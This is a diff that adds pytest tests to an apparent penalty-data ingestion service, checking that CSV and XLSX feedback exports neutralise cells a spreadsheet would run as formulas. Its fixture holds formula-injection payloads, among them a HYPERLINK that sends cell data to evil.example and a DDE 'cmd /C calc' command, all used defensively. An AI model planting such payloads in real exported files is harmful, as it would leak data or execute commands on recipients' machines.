@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from pathlib import Path
 
 import sqlalchemy as sa
@@ -105,3 +106,55 @@ def test_fixed_rows_sent_back_from_the_feedback_file_close_the_rejections(
         assert {tuple(s) for s in states} == {("corrected", again.batch_id)}
         assert build_feedback(conn, batch_id, runtime, status="open").rows == []
         assert len(build_feedback(conn, batch_id, runtime).rows) == 3  # the history stays
+
+
+FORMULAS = {
+    "cf_sy": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
+    "cf_wfxw": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "cf_yj": "+1+1",
+    "cf_nr": "-2+3",
+    "cf_cfjg": "\t=1+1",
+}
+
+
+def _formula_batch(send: Ingest) -> int:
+    # Missing 罚款金额 rejects the row, so it comes back in the feedback file with every formula cell.
+    summary = send([penalty(1, cf_nr_fk=None, **FORMULAS)])
+    assert summary.rejected == 1 and summary.batch_id is not None
+    return summary.batch_id
+
+
+def test_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(send: Ingest, runtime: Runtime) -> None:
+    with runtime.engine.connect() as conn:
+        table = build_feedback(conn, _formula_batch(send), runtime)
+    parsed = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
+    cells = dict(zip(parsed[0], parsed[1], strict=True))
+    for code, value in FORMULAS.items():
+        assert cells[H[code]] == "'" + value, code  # shown as text, never evaluated
+    assert cells[H["cf_wsh"]] == "武市监罚〔2026〕1号"  # ordinary cells unchanged
+    assert not [c for row in parsed for c in row if c.startswith(("=", "+", "@", "\t", "\r"))]
+
+
+def test_xlsx_writes_formula_like_cells_as_strings(send: Ingest, runtime: Runtime, tmp_path: Path) -> None:
+    import zipfile
+
+    with runtime.engine.connect() as conn:
+        table = build_feedback(conn, _formula_batch(send), runtime)
+    path = tmp_path / "feedback.xlsx"
+    path.write_bytes(to_xlsx(table))
+    with zipfile.ZipFile(path) as book:
+        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)  # no formula cell at all
+    cells = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("问题数据").to_python()
+    row = dict(zip(cells[0], cells[1], strict=True))
+    assert row[H["cf_sy"]] == FORMULAS["cf_sy"]  # the provider's text exactly as sent, as a string
+
+
+def test_problem_texts_name_fields_by_their_headers_never_by_code(send: Ingest, runtime: Runtime) -> None:
+    batch_id = _batch(send)
+    for lang in ("zh", "en"):
+        with runtime.engine.connect() as conn:
+            table = build_feedback(conn, batch_id, runtime, lang=lang)  # type: ignore[arg-type]
+        reasons = " ".join(r[-1] for r in table.rows)
+        assert ("处罚类别" if lang == "zh" else "Penalty") in reasons
+        assert not re.search(r"\b(?:cf|xdr|xk|fr)_[a-z0-9_]+", reasons), reasons
